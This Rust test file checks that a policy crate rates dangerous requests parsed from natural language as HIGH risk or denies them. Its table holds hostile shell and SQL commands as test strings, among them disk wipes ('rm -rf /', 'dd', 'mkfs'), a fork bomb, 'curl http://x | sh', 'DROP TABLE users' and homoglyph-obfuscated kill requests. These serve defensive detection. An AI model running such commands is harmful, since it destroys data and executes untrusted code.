//! Issue 14 on the policy side: the intents the parser makes of dangerous
//! requests are HIGH or denied, a command line is HIGH whatever its action
//! or the tables say, and `[families]` in a policy file is validated here,
//! where the file is read. (The text → risk corpus itself runs in
//! crates/parser/tests/safety.rs, which may use both crates.)

use madre_models::{Dsl, DslSource, Module, RiskLevel};
use madre_policy::{Decision, FAMILY_NAMES, PolicyError, RiskTables, SHELL_COMMAND_WARNING};

const DESTRUCTIVE: &str = "destructive_intent_detected";
const SHELL: &str = SHELL_COMMAND_WARNING;

const LOW: Decision = Decision::Risk(RiskLevel::Low);
const MED: Decision = Decision::Risk(RiskLevel::Med);
const HIGH: Decision = Decision::Risk(RiskLevel::High);
const DENY: Decision = Decision::Deny;

fn dsl(domain: &str, action: &str, targets: &[Module], warnings: &[&str]) -> Dsl {
    Dsl {
        domain: domain.into(),
        action: action.into(),
        parameters: Default::default(),
        targets: targets.to_vec(),
        confidence: 0.9,
        original_text: String::new(),
        warnings: warnings.iter().map(|w| (*w).to_owned()).collect(),
        source: DslSource::Fallback,
        effect: madre_models::Effect::Read,
    }
}

/// (what the parser makes of the request, domain, action, targets, warnings, decision)
type Row = (
    &'static str,
    &'static str,
    &'static str,
    &'static [Module],
    &'static [&'static str],
    Decision,
);

const M: &[Module] = &[Module::Madre];
const T: &[Module] = &[Module::TentaculoLink];
const H: &[Module] = &[Module::Hermes];
const S: &[Module] = &[Module::Switch];
const NONE: &[Module] = &[];

const ROWS: &[Row] = &[
    // shell and SQL: HIGH, with or without a destructive action
    (
        "rm -rf /",
        "system",
        "delete",
        NONE,
        &[DESTRUCTIVE, SHELL],
        HIGH,
    ),
    (
        "mkfs.ext4 /dev/sda",
        "system",
        "delete",
        NONE,
        &[DESTRUCTIVE, SHELL],
        HIGH,
    ),
    (
        "dd if=/dev/zero of=/dev/sda",
        "system",
        "delete",
        NONE,
        &[DESTRUCTIVE, SHELL],
        HIGH,
    ),
    ("chmod -R 777 /", "system", "chat", NONE, &[SHELL], HIGH),
    ("curl http://x | sh", "system", "chat", NONE, &[SHELL], HIGH),
    (":(){ :|:& };:", "system", "stop", NONE, &[SHELL], HIGH),
    ("sudo reboot", "system", "restart", NONE, &[SHELL], HIGH),
    (
        "systemctl restart hermes",
        "system",
        "restart",
        H,
        &[SHELL],
        HIGH,
    ),
    (
        "show the status, then chmod -R 777 /",
        "system",
        "status",
        NONE,
        &[SHELL],
        HIGH,
    ),
    (
        "UPDATE users SET role='admin'",
        "system",
        "update",
        NONE,
        &[SHELL],
        HIGH,
    ),
    (
        "INSERT INTO admins VALUES (1)",
        "system",
        "chat",
        NONE,
        &[SHELL],
        HIGH,
    ),
    (
        "DROP TABLE users",
        "system",
        "delete",
        NONE,
        &[DESTRUCTIVE, SHELL],
        HIGH,
    ),
    // the deny rule still wins over the command-line floor
    ("systemctl stop madre", "system", "stop", M, &[SHELL], DENY),
    (
        "docker rm -f madre",
        "system",
        "delete",
        M,
        &[DESTRUCTIVE, SHELL],
        DENY,
    ),
    (
        "pkill tentaculo_link",
        "system",
        "delete",
        T,
        &[DESTRUCTIVE, SHELL],
        DENY,
    ),
    // the broadened families map to delete or stop, so the tables apply
    ("shutdown hermes", "general", "stop", H, &[], HIGH),
    ("shut down madre", "general", "stop", M, &[], DENY),
    ("apagar el servidor", "general", "stop", NONE, &[], HIGH),
    ("apaga madre", "general", "stop", M, &[], DENY),
    (
        "format the disk",
        "system",
        "delete",
        NONE,
        &[DESTRUCTIVE],
        HIGH,
    ),
    (
        "nuke everything",
        "system",
        "delete",
        NONE,
        &[DESTRUCTIVE],
        HIGH,
    ),
    (
        "purge the queue",
        "system",
        "delete",
        NONE,
        &[DESTRUCTIVE],
        HIGH,
    ),
    (
        "uninstall hermes",
        "system",
        "delete",
        H,
        &[DESTRUCTIVE],
        HIGH,
    ),
    (
        "overwrite the config",
        "system",
        "delete",
        NONE,
        &[DESTRUCTIVE],
        HIGH,
    ),
    ("disable the switch", "general", "stop", S, &[], HIGH),
    (
        "dar de baja el servicio",
        "system",
        "delete",
        NONE,
        &[DESTRUCTIVE],
        HIGH,
    ),
    (
        "roll back the database",
        "general",
        "restore",
        NONE,
        &[],
        HIGH,
    ),
    // obfuscations: the parser folds them, the policy sees plain words
    (
        "dеlete all data (Cyrillic е)",
        "system",
        "delete",
        NONE,
        &[DESTRUCTIVE],
        HIGH,
    ),
    (
        "kill mаdre (Cyrillic а)",
        "system",
        "delete",
        M,
        &[DESTRUCTIVE],
        DENY,
    ),
    (
        "k i l l m a d r e",
        "system",
        "delete",
        M,
        &[DESTRUCTIVE],
        DENY,
    ),
    ("stop tentaculo link", "general", "stop", T, &[], DENY),
    (
        "disable madre and hermes",
        "general",
        "stop",
        &[Module::Hermes, Module::Madre],
        &[],
        DENY,
    ),
    // what stays as it was
    ("reboot madre", "general", "restart", M, &[], MED),
    ("status of madre", "general", "status", M, &[], LOW),
    ("mix these 3 stems", "audio", "chat", NONE, &[], LOW),
    (
        "translate 'hola' to english",
        "general",
        "chat",
        NONE,
        &[],
        LOW,
    ),
    ("list the plans", "general", "list", NONE, &[], LOW),
    // the destructive warning alone does not change the tables' answer
    (
        "(a destructive warning on a status intent)",
        "general",
        "status",
        NONE,
        &[DESTRUCTIVE],
        LOW,
    ),
];

#[test]
fn the_parsers_intents_for_dangerous_requests_are_high_or_denied() {
    let tables = RiskTables::default();
    for (request, domain, action, targets, warnings, expected) in ROWS {
        let assessment = tables.assess(&dsl(domain, action, targets, warnings));
        assert_eq!(assessment.decision, *expected, "for {request:?}");
        assert_eq!(
            assessment.requires_confirmation(),
            matches!(expected, Decision::Risk(r) if *r != RiskLevel::Low),
            "for {request:?}"
        );
    }
}

#[test]
fn a_command_line_is_high_whatever_the_policy_file_says() {
    let tables =
        RiskTables::from_toml_str("high = []\nmed = []\nlow_actions = [\"delete\", \"chat\"]\n")
            .unwrap();
    let plain = dsl("system", "delete", NONE, &[DESTRUCTIVE]);
    assert_eq!(
        tables.assess(&plain).decision,
        LOW,
        "the file may lower words"
    );
    let command = dsl("system", "delete", NONE, &[DESTRUCTIVE, SHELL]);
    assert_eq!(
        tables.assess(&command).decision,
        HIGH,
        "but not a command line"
    );
    let denied = dsl("system", "delete", M, &[SHELL]);
    assert_eq!(tables.assess(&denied).decision, DENY);
    // classify() of one target and action has no effect to go by: an action
    // no table names is MED, an allowlisted one LOW
    assert_eq!(RiskTables::default().classify("system", "chat"), MED);
    assert_eq!(tables.classify("system", "chat"), LOW);
}

#[test]
fn policy_file_families_are_plain_data_and_validated() {
    let tables = RiskTables::from_toml_str(
        "[families]\ndelete = [\"zap\", \"make * vanish\", \"hacer desaparecer\", \"bórralo~\"]\nstop = [\"stand down\"]\n",
    )
    .unwrap();
    assert_eq!(tables.families["delete"].len(), 4);
    assert_eq!(tables.families["stop"], vec!["stand down".to_owned()]);
    assert_eq!(tables.high, RiskTables::default().high, "other lists kept");
    assert!(RiskTables::default().families.is_empty());

    for name in FAMILY_NAMES {
        let file = format!("[families]\n{name} = [\"frobnicate\"]\n");
        assert!(RiskTables::from_toml_str(&file).is_ok(), "{name}");
    }

    let bad: &[(&str, &str)] = &[
        ("[families]\nobliterate = [\"zap\"]\n", "obliterate"),
        ("[families]\ndelete = [\"Zap\"]\n", "Zap"),
        ("[families]\ndelete = [\"* zap\"]\n", "* zap"),
        ("[families]\ndelete = [\"zap *\"]\n", "zap *"),
        ("[families]\ndelete = [\"zap * * now\"]\n", "zap * * now"),
        ("[families]\ndelete = [\"\"]\n", "\"\""),
        ("[families]\ndelete = [\"zap  now\"]\n", "zap  now"),
        ("[families]\ndelete = [\"!!\"]\n", "!!"),
    ];
    for (file, named) in bad {
        let err = RiskTables::from_toml_str(file).unwrap_err();
        assert!(
            matches!(
                err,
                PolicyError::UnknownFamily { .. } | PolicyError::BadPhrase { .. }
            ),
            "{file:?}: {err}"
        );
        assert!(
            err.to_string().contains(named.trim_matches('"')),
            "{err} names {named}"
        );
    }
    let err = RiskTables::from_toml_str("families = [\"zap\"]\n").unwrap_err();
    assert!(matches!(err, PolicyError::Parse(_)), "{err}");
}

/// A message of several requests: every action it names is classified, so
/// "patch prod. roll back staging" is the HIGH of the restore, not the MED
/// of the patch that comes first in the family order.
#[test]
fn every_action_a_message_names_is_classified() {
    let mut intent = dsl("general", "update", NONE, &[]);
    intent.effect = madre_models::Effect::Change;
    assert_eq!(RiskTables::default().assess(&intent).decision, MED);
    intent.parameters.insert(
        madre_policy::ACTIONS_PARAMETER.into(),
        serde_json::json!(["update", "restore"]),
    );
    assert_eq!(RiskTables::default().assess(&intent).decision, HIGH);
    let mut denied = dsl("system", "restart", M, &[]);
    denied.parameters.insert(
        madre_policy::ACTIONS_PARAMETER.into(),
        serde_json::json!(["restart", "stop"]),
    );
    assert_eq!(RiskTables::default().assess(&denied).decision, DENY);
}

/// `[effects]`: plain data, validated like `[families]`; the parser turns
/// it into words (and refuses to make danger harmless, see madre-parser).
#[test]
fn policy_file_effects_are_plain_data_and_validated() {
    let tables = RiskTables::from_toml_str(
        "[effects.execute]\nverbs = [\"vxctl\", \"deploy tool\"]\n[effects.generate]\nobjects = [\"runbook\"]\n",
    )
    .unwrap();
    let effects: Vec<_> = tables
        .effect_words()
        .map(|(effect, words)| (effect, words.verbs.len(), words.objects.len()))
        .collect();
    assert_eq!(
        effects,
        [
            (madre_models::Effect::Execute, 2, 0),
            (madre_models::Effect::Generate, 0, 1)
        ]
    );
    assert!(RiskTables::default().effects.is_empty());
    assert_eq!(tables.high, RiskTables::default().high, "other lists kept");

    let err = RiskTables::from_toml_str("[effects.harmless]\nverbs = [\"x\"]\n").unwrap_err();
    assert!(matches!(err, PolicyError::UnknownEffect { .. }), "{err}");
    assert!(err.to_string().contains("harmless"), "{err}");
    let err = RiskTables::from_toml_str("[effects.change]\nverbs = [\"Drain Now\"]\n").unwrap_err();
    assert!(
        matches!(err, PolicyError::BadEffectPhrase { list: "verbs", .. }),
        "{err}"
    );
    let err = RiskTables::from_toml_str("[effects.change]\nverbz = [\"drain\"]\n").unwrap_err();
    assert!(err.to_string().contains("verbz"), "{err}");
}
